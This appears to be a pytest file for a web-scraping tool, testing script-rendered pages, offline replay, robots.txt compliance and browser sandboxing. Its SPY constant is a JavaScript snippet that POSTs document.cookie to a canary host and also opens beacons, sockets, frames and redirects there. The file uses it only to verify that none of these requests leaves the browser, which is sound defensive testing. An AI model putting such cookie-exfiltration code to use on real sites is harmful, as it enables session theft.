"""Pages that their scripts fill: which are rendered, that the rows stay the same, and what the browser may do."""

import json
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from browsers import chromium
from sites.server import Answer, Request, Server, html, serving
from unweave import Page, SiteProgram, learn_site
from unweave.cli.site_report import site_lines
from unweave.errors import PageMissing
from unweave.run.crawl import crawl
from unweave.run.fetch import Fetcher
from unweave.run.politeness import Clock, FetchLimits
from unweave.run.saved import fetch_into
from unweave.run.site_job import extract_site
from unweave.sites import SavedPages, VisitReport, start_pages, visit

BOOKS = [
    ("Emma", "$5", "1815"),
    ("Kim", "$7", "1901"),
    ("Dune", "$9", "1965"),
    ("She", "$4", "1887"),
    ("Ida", "$8", "1932"),
]
HOST = "http://books.test"
SCRIPT = """
const title = location.pathname.split('/').pop();
fetch('/api/' + title).then(answer => answer.json()).then(book => {
  document.querySelector('h1').textContent = book.title;
  document.querySelector('p').innerHTML = 'Year: <i>' + book.year + '</i>';
});
"""
SPY = """
new Image().src = CANARY + '/image'; fetch(CANARY + '/post', {method: 'POST', body: document.cookie});
navigator.sendBeacon(CANARY + '/beacon'); try { new WebSocket(CANARY.replace('http', 'ws') + '/socket') } catch {}
const frame = document.createElement('iframe'); frame.src = CANARY + '/frame'; document.body.append(frame);
setTimeout(() => { location.href = CANARY + '/gone' }, 50);
"""


def listed(host: str = HOST) -> str:
    """The list page."""
    items = "".join(f'<li><a href="{host}/b/{title}">{title}</a> <b>{price}</b></li>' for title, price, _ in BOOKS)
    return f"<h1>Books</h1><ul>{items}</ul>"


def detail(title: str = "", year: str = "") -> str:
    """A detail page: filled, or as it is sent."""
    row = f"Year: <i>{year}</i>" if year else ""
    return f'<html><head></head><body><h1>{title}</h1><p>{row}</p><script src="/app.js"></script></body></html>'


def learned() -> SiteProgram:
    """The program, learned from filled pages."""
    pages = [Page(listed(), url=f"{HOST}/")]
    pages += [Page(detail(title, year), url=f"{HOST}/b/{title}") for title, _, year in BOOKS]
    return learn_site(pages, [{"title": t, "price": p, "year": y} for t, p, y in BOOKS[:2]])


class Filling:
    """A browser that fills pages as the script would."""

    def __init__(self, fill: Callable[[Page], str]) -> None:
        self.fill = fill
        self.rendered: list[str] = []
        self.kept: list[str] = []

    def render(self, page: Page) -> Page:
        self.rendered.append(page.url or "")
        return Page(self.fill(page), url=page.url)

    def keep(self, page: Page) -> None:
        self.kept.append(page.url or "")


def filled(page: Page) -> str:
    """What the script makes of a detail page."""
    title = (page.url or "").rpartition("/")[2]
    return detail(title, next(year for name, _, year in BOOKS if name == title))


def rows_with(browser: Filling | None, sent: Callable[[str, str], str]) -> tuple[list[Any], VisitReport]:
    """The years of a visit, and its report."""
    pages = [Page(listed(), url=f"{HOST}/")]
    pages += [Page(sent(title, year), url=f"{HOST}/b/{title}") for title, _, year in BOOKS]
    report = VisitReport()
    report.rendering.browser = browser
    site = learned()
    rows = [row.values["year"] for row in visit(site, SavedPages(pages), start_pages(site, pages), report)]
    return rows, report


def test_empty_pages_are_rendered() -> None:
    """Each detail page is empty as it was sent, so each is rendered once; the list page is not."""
    browser = Filling(filled)
    rows, report = rows_with(browser, lambda title, year: detail())
    assert rows == [year for _, _, year in BOOKS]
    assert browser.rendered == browser.kept == [f"{HOST}/b/{title}" for title, _, _ in BOOKS]
    assert (report.rendering.helped, report.rendering.in_vain, report.rendering.empty) == ({"detail": 5}, {}, {})


def test_complete_pages_are_not_rendered() -> None:
    """A page with its values costs no browser."""
    browser = Filling(filled)
    rows, _ = rows_with(browser, detail)
    assert (rows, browser.rendered) == ([year for _, _, year in BOOKS], [])


def test_rendering_in_vain_ends() -> None:
    """After three pages that stay empty, the others of the type are not rendered."""
    browser = Filling(lambda page: page.source)
    rows, report = rows_with(browser, lambda title, year: detail())
    assert (rows, len(browser.rendered), browser.kept) == ([None] * 5, 3, [])
    assert report.rendering.in_vain == {"detail": 3}


def test_a_browser_that_fails_loses_no_row() -> None:
    """The page is taken as it was sent."""

    def fail(page: Page) -> str:
        raise PageMissing(address=page.url or "", reason="the browser failed")

    rows, report = rows_with(Filling(fail), lambda title, year: detail() if title != "Kim" else detail(title, year))
    assert rows == [None, "1901", None, None, None]
    assert report.rendering.in_vain == {"detail": 3}


# --- with Chromium ---


@pytest.fixture
def browser(monkeypatch: pytest.MonkeyPatch) -> str:
    """Chromium, which the crawl starts itself; the server here answers at once, so pages are settled sooner."""
    monkeypatch.setattr("unweave.run.browser.QUIET_MS", 100)
    return chromium()


def script_site(server: Server, canary: str = "", robots: str = "") -> Callable[[Request], Answer | None]:
    """A site whose detail pages are filled by a script."""

    def answer(request: Request) -> Answer | None:
        path = request.path
        data = {f"/api/{title}": {"title": title, "year": year} for title, _, year in BOOKS}
        if path in data:
            return 200, json.dumps(data[path]).encode(), {"Content-Type": "application/json"}
        if path == "/app.js":
            spy = f"const CANARY = {canary!r};{SPY}" if canary else ""
            return 200, (SCRIPT + spy).encode(), {"Content-Type": "text/javascript"}
        if path == "/robots.txt":
            return 200, robots.encode(), {"Content-Type": "text/plain"}
        return html(listed(server.host)) if path == "/" else html(detail()) if path.startswith("/b/") else None

    return answer


def fetcher(**changes: Any) -> Fetcher:
    """One that does not wait."""
    return Fetcher(
        replace(FetchLimits(delay=0.0, retries=0, allow_private=True), **changes), Clock(sleep=lambda _: None)
    )


def years(path: Path) -> list[str | None]:
    return [json.loads(line)["year"] for line in path.read_text().splitlines()]


@pytest.mark.browser
@pytest.mark.usefixtures("browser")
def test_a_crawl_renders_what_is_empty_and_repeats_it_offline(tmp_path: Path) -> None:
    """The rows have what scripts fill in; the WARC file gives the same rows without browser and network."""
    with serving() as server:
        server.site = script_site(server)
        done = crawl(learned(), [f"{server.host}/"], tmp_path / "a.jsonl", fetcher=fetcher(), render=True)
        asked = sorted(server.requests)
    assert years(tmp_path / "a.jsonl") == [year for _, _, year in BOOKS]
    names = [title for title, _, _ in BOOKS]
    wanted = ["/", "/app.js", "/robots.txt", *(f"/b/{name}" for name in names), *(f"/api/{name}" for name in names)]
    assert asked == sorted(wanted)
    assert site_lines(done.rows)[1] == "filled by the browser: 5 detail pages"
    assert done.rows.drift["detail"].status == "ok"
    extract_site(learned(), [done.archive], tmp_path / "b.jsonl")
    assert (tmp_path / "b.jsonl").read_bytes() == (tmp_path / "a.jsonl").read_bytes()


@pytest.mark.browser
@pytest.mark.usefixtures("browser")
def test_scripts_reach_nothing_but_the_fetcher(tmp_path: Path) -> None:
    """Images, beacons, posts, sockets, frames and other addresses for the window: none of them leaves the browser."""
    with serving() as canary, serving() as server:
        server.site = script_site(server, canary.host)
        crawl(learned(), [f"{server.host}/"], tmp_path / "a.jsonl", fetcher=fetcher(), render=True)
        assert canary.requests == []
    assert years(tmp_path / "a.jsonl") == [year for _, _, year in BOOKS]


@pytest.mark.browser
@pytest.mark.usefixtures("browser")
def test_robots_txt_holds_for_scripts_and_data(tmp_path: Path) -> None:
    """What robots.txt forbids is not fetched for a script either."""
    with serving() as server:
        server.site = script_site(server, robots="User-agent: *\nDisallow: /api/")
        crawl(learned(), [f"{server.host}/"], tmp_path / "a.jsonl", fetcher=fetcher(), render=True)
        assert [path for path in server.requests if path.startswith("/api/")] == []
    assert years(tmp_path / "a.jsonl") == [None] * 5


def test_without_a_browser_what_needs_one_is_named(tmp_path: Path) -> None:
    """Every row is kept, and the summary says what a browser may help with."""
    with serving() as server:
        server.site = script_site(server)
        done = crawl(learned(), [f"{server.host}/"], tmp_path / "a.jsonl", fetcher=fetcher())
    assert years(tmp_path / "a.jsonl") == [None] * 5
    said = "year is empty on all 5 detail pages. If a browser shows it: unweave crawl --render if-needed"
    assert said in site_lines(done.rows)
    assert done.rows.drift["detail"].status == "suspicious"


@pytest.mark.browser
@pytest.mark.usefixtures("browser")
def test_fetched_pages_can_be_rendered(tmp_path: Path) -> None:
    """``fetch --render`` saves what the scripts make of a page."""
    with serving() as server:
        server.site = script_site(server)
        with closing(fetcher()) as polite:
            (saved,) = fetch_into(tmp_path, [f"{server.host}/b/Kim"], polite, render=True)
    assert "<h1>Kim</h1><p>Year: <i>1901</i></p>" in (tmp_path / saved.file).read_text()
